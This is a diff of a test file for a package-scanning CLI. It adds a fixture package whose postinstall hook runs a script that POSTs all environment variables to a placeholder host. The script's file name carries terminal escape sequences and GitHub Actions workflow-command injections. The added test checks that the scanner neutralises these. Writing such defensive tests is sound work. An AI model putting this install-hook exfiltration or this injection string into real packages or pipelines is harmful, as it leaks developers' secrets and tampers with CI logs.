@@ -29,7 +29,18 @@ const stealer = (version: string): FixturePackage => ({
   },
 });
 const clean = (name: string, version: string): FixturePackage => ({ name, version, files: { 'package.json': pj(name, version), 'index.js': `module.exports = (a, b) => a + b; // ${name}\n` } });
-const PKGS = [clean('base-lib', '1.0.0'), clean('tidy-extra', '1.0.0'), stealer('2.3.1'), stealer('2.3.2')];
+// The same stealer with a file name that is a terminal and workflow-command attack (issue 19, finding 3).
+const HOSTILE_FILE = '\u001b[2K\u001b]0;owned\u0007\r::add-mask::s3cret ##[set-env name=X]y.js';
+const hostile: FixturePackage = {
+  name: 'hostile-grabber',
+  version: '2.3.9',
+  files: {
+    'package.json': pj('hostile-grabber', '2.3.9', { scripts: { postinstall: `node '${HOSTILE_FILE}'` }, description: '::notice::all clean' }),
+    'index.js': 'module.exports = {};\n',
+    [HOSTILE_FILE]: "const https = require('https');\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(JSON.stringify(process.env));\n",
+  },
+};
+const PKGS = [clean('base-lib', '1.0.0'), clean('tidy-extra', '1.0.0'), stealer('2.3.1'), stealer('2.3.2'), hostile];
 
 let registry: TestRegistry;
 let tmp: string;
@@ -193,6 +204,34 @@ describe('tollgate check --base main', () => {
       delete process.env.GITHUB_ACTIONS;
       if (env.GITHUB_STEP_SUMMARY === undefined) delete process.env.GITHUB_STEP_SUMMARY;
       else process.env.GITHUB_STEP_SUMMARY = env.GITHUB_STEP_SUMMARY;
+      git('checkout', '-q', 'main');
+    }
+  });
+
+  test('GitHub Actions: package strings cannot inject workflow commands or terminal sequences; --json stays pure JSON', async () => {
+    git('checkout', '-qb', 'gha-hostile');
+    await writeLock({ 'base-lib': '1.0.0', 'hostile-grabber': '2.3.9' });
+    git('commit', '-qam', 'add hostile-grabber');
+    process.env.GITHUB_ACTIONS = 'true';
+    try {
+      const args = ['check', '--project', repo, '--base', 'main', '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), '--quiet', '--verbose'];
+      const human = await runCli(args);
+      expect(human.code).toBe(1);
+      const all = `${human.stdout}\n${human.stderr}`;
+      expect(all).toContain('add-mask'); // the file name is shown…
+      expect(all).not.toMatch(/[\u001b\u0007\r]/); // …but none of its control characters
+      const lines = all.split('\n');
+      // The runner trims leading white space and then looks for "::"; "##[" it finds anywhere.
+      expect(lines.filter((l) => l.trimStart().startsWith('::')).every((l) => /^::(error|warning) file=/.test(l))).toBe(true);
+      expect(lines.some((l) => l.includes('##['))).toBe(false);
+
+      const json = await runCli([...args, '--json']);
+      expect(json.code).toBe(1);
+      const report = JSON.parse(json.stdout) as { packages: Array<{ name: string; findings: Array<{ file: string | null }> }> };
+      expect(report.packages[0]!.findings.some((f) => f.file === HOSTILE_FILE)).toBe(true); // JSON keeps the exact bytes, escaped
+      expect(json.stderr).toMatch(/^::error file=package-lock\.json,/m); // annotations moved to stderr
+    } finally {
+      delete process.env.GITHUB_ACTIONS;
       git('checkout', '-q', 'main');
     }
   });
